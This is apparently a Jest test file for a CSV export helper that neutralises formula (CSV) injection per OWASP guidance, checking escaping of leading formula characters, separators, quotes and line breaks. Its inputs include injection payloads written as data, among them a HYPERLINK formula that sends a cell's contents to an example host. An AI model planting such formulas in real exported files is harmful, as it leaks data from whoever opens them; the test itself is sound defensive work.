import { csvField, toCsv } from './csv';

describe('csvField: OWASP CSV-injection guidance, in one function', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+86 551', "'+86 551"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\n=1+1', `"'\n=1+1"`],
    ['\0=1+1', "'\0=1+1"],
    ['=HYPERLINK("http://example.com/?"&A1,"点这里")', `"'=HYPERLINK(""http://example.com/?""&A1,""点这里"")"`],
  ])('a field starting with a formula character is kept as text: %j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each([
    ['王秀英,=1+1', '"王秀英,=1+1"'],
    ['王秀英;=1+1', '"王秀英;=1+1"'],
    ['王秀英\t=1+1', '"王秀英\t=1+1"'],
    ['第一行\r\n=1+1', '"第一行\r\n=1+1"'],
    ['说"你好"', '"说""你好"""'],
  ])('a separator, quote or line break inside a field cannot start a new cell: %j → %j', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each(['王秀英', '2026-11-27', '09:30', '139****0003', '社保卡补办 (加急)', "O'Brien", ''])('ordinary text is unchanged: %j', (value) => {
    expect(csvField(value)).toBe(value);
  });
});

describe('toCsv', () => {
  it('writes UTF-8 with a BOM and CRLF line ends, every field through csvField', () => {
    expect(
      toCsv([
        ['服务', '居民'],
        ['\t=1+1', '王秀英'],
      ]),
    ).toBe(`\uFEFF服务,居民\r\n"'\t=1+1",王秀英\r\n`);
  });
});
